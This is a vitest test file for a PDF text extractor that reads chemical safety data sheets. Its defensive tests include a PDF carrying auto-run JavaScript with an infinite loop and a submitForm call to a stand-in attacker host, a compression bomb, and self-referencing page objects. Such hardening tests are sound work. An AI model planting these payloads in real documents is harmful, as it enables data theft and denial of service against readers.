import { randomBytes } from 'node:crypto';
import { expect, test } from 'vitest';
import { smallPdf, stream, text } from '../../../../test/doubles/small-pdf.ts';
import { extractText, readSheetFile, type ExtractedText } from './extract-text.ts';

const sentence = 'Product name: Northern Solvent 12, a highly flammable liquid and vapour';
const words = (read: ExtractedText): string =>
  'refused' in read
    ? read.refused
    : read.pages.map((page) => page.items.map((item) => item.text).join(' ')).join(' | ');

test('text comes with its place, in points from the lower left', async () => {
  const read = await extractText(smallPdf({ pages: [text(sentence, 72, 700, 12)] }));
  if ('refused' in read) throw new Error(read.refused);
  expect(read).toMatchObject({
    pageCount: 1,
    more: false,
    pages: [{ width: 612, height: 792, items: [{ text: sentence, x: 72, y: 700, height: 12 }] }],
  });
  expect(read.pages[0]!.items[0]!.width).toBeGreaterThan(300);
});

test('a page that is shown turned is read as it is shown', async () => {
  const turned = `q 0 1 -1 0 612 0 cm ${text(sentence, 100, 500)} Q ${text('A note that runs along the margin of the page')}`;
  const read = await extractText(smallPdf({ pages: [turned], page: '/Rotate 90' }));
  if ('refused' in read) throw new Error(read.refused);
  expect(read.pages).toMatchObject([{ width: 792, height: 612, items: [{ text: sentence }] }]);
  expect(Math.round(read.pages[0]!.items[0]!.x)).toBe(100);
  expect(Math.round(read.pages[0]!.items[0]!.y)).toBe(500);
});

test('Chinese is read by the tables of the library', async () => {
  const font =
    '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [11 0 R] >>';
  const descendant =
    '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /FontDescriptor 12 0 R >>';
  const descriptor =
    '<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 880 /Descent -120 /StemV 93 >>';
  const chinese = '化学品安全技术说明书产品名称丙酮';
  const hex = Buffer.from(chinese.repeat(5), 'utf16le').swap16().toString('hex');
  const read = await extractText(
    smallPdf({
      pages: [`BT /F2 11 Tf 72 700 Td <${hex}> Tj ET`],
      objects: { 10: font, 11: descendant, 12: descriptor },
    }),
  );
  expect(words(read)).toContain(chinese);
});

test('what a document would run is not run', async () => {
  const script = 'while (true) {} app.alert(1); this.submitForm(\\"https://attacker.example\\");';
  const read = await extractText(
    smallPdf({
      pages: [text(sentence)],
      catalogue: `/OpenAction << /S /JavaScript /JS (${script}) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >>`,
      page: `/AA << /O << /S /JavaScript /JS (${script}) >> >>`,
    }),
  );
  expect(words(read)).toBe(sentence);
});

test('of a long document the first pages are read', async () => {
  const read = await extractText(
    smallPdf({ pages: Array.from({ length: 500 }, (_none, page) => text(`Page ${page + 1}. ${sentence}`)) }),
  );
  if ('refused' in read) throw new Error(read.refused);
  expect([read.pageCount, read.pages.length, read.more]).toEqual([500, 60, true]);
});

test('of a page with too much text the beginning is read', async () => {
  const crowded = Array.from({ length: 3000 }, (_none, line) =>
    text(sentence, 10 + (line % 7) * 80, 780 - Math.floor(line / 7)),
  ).join('\n');
  const read = await extractText(smallPdf({ pages: [crowded, text(sentence)] }), { items: 100 });
  if ('refused' in read) throw new Error(read.refused);
  expect([read.pages.length, read.pages[0]!.items.length, read.more]).toEqual([1, 100, true]);
});

const whole = smallPdf({ pages: [text(sentence), text(sentence)], packed: true });
const image = stream(
  Buffer.alloc(64 * 64, 128),
  true,
  '/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8',
);
test.each([
  ['no bytes', Buffer.alloc(0), 'empty'],
  ['no pages', smallPdf({ pages: [] }), 'empty'],
  ['another file', Buffer.from('PK\u0003\u0004 a spreadsheet, whatever its name says'), 'notAPdf'],
  [
    'the mark of a PDF, and noise',
    Buffer.concat([
      Buffer.from('%PDF-1.7\n'),
      Buffer.from(Array.from({ length: 5000 }, (_none, n) => (n * 7919) % 251)),
    ]),
    'notAPdf',
  ],
  ['cut off within a page', whole.subarray(0, 700), 'notAPdf'],
  ['cut off before its first page', whole.subarray(0, 90), 'notAPdf'],
  [
    'a password',
    smallPdf({
      pages: [text(sentence)],
      trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${randomBytes(32).toString('hex')}> /U <${randomBytes(32).toString('hex')}> >> /ID [<00> <00>]`,
    }),
    'encrypted',
  ],
  [
    'images only',
    smallPdf({
      pages: ['q 612 0 0 792 0 0 cm /Im1 Do Q'],
      objects: { 20: image },
      resources: '/XObject << /Im1 20 0 R >>',
    }),
    'noText',
  ],
  ['a stamp over images', smallPdf({ pages: [text('SCAN 2024-03-05 p. 1')] }), 'noText'],
])('%s is refused by name', async (_name, bytes, refused) => expect(await extractText(bytes)).toEqual({ refused }));

test('a file whose end is damaged is read', async () => {
  const read = await extractText(whole.subarray(0, whole.length - 12));
  expect(words(read)).toContain(sentence);
});

test('a document that takes too long is left', async () => {
  expect(await extractText(smallPdf({ pages: [text(sentence)] }), { seconds: 0.001 })).toEqual({ refused: 'tooLong' });
});

test('a stream that unpacks into gigabytes is left, and the next document is read', async () => {
  const bomb = smallPdf({ pages: [Buffer.alloc(700_000_000, ' ')], packed: true });
  expect(bomb.length).toBeLessThan(1_000_000);
  const [left, read] = await Promise.all([extractText(bomb, { megabytes: 200 }), extractText(whole)]);
  expect(left).toEqual({ refused: 'tooLong' });
  expect(words(read)).toContain(sentence);
});

test('pages that refer to themselves end', async () => {
  const loop = smallPdf({
    pages: ['/X1 Do'.repeat(3)],
    objects: {
      20: stream(
        '/X1 Do /X1 Do',
        false,
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X1 20 0 R >> >>',
      ),
    },
    resources: '/XObject << /X1 20 0 R >>',
  });
  expect(await extractText(loop, { seconds: 5 })).toHaveProperty('refused');
});

test('a sheet is read in the same thread', async () => {
  const lines = [
    'SAFETY DATA SHEET',
    '1. Identification',
    'Product name: Northern Solvent 12',
    '2. Hazard identification',
    'Signal word: Danger',
    'H225 Highly flammable liquid and vapour.',
    '3. Composition',
    'Acetone 67-64-1',
  ];
  const read = await readSheetFile(
    smallPdf({ pages: [lines.map((line, at) => text(line, 72, 720 - at * 16)).join(' ')] }),
  );
  expect(read).toMatchObject({
    pages: [{ width: 612, height: 792 }],
    pageCount: 1,
    more: false,
    reading: { product: { value: 'Northern Solvent 12', place: { page: 1 } }, hCodes: { value: ['H225'] } },
  });
});

test('text that is made to take the rules long is left', async () => {
  const crowded = Array.from({ length: 20_000 }, (_none, at) =>
    text(`${at % 9} 1-2-3 H2`, 250 + (at % 100), 700, 1),
  ).join('\n');
  const begun = performance.now();
  const read = await readSheetFile(smallPdf({ pages: [crowded], packed: true }), { seconds: 3 });
  expect(performance.now() - begun).toBeLessThan(20_000);
  if (!('refused' in read)) expect(read.reading.hCodes).toBeNull();
  else expect(read).toEqual({ refused: 'tooLong' });
});
